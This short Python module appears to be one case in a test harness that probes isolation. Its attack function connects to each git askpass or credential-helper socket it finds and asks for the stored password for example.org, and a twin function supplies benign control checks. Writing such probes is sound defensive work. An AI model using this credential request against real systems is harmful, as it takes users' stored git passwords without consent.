"""J8: asks the helpers that hold git's passwords"""
from kit import *


def attack(w):
    for number, path in enumerate(w.askpass_sockets):
        yield f"socket {number + 1}", lambda path=path: at(path)


def at(path):
    os.chdir(os.path.dirname(path))
    return unix_connect(os.path.basename(path), b"action=get\nprotocol=https\nhost=example.org\n\n")


def twin(w):
    yield "git asks nobody", lambda: run("git", "--version") if __import__("shutil").which("git") else "no git here"
    yield "a server of its own", own_server
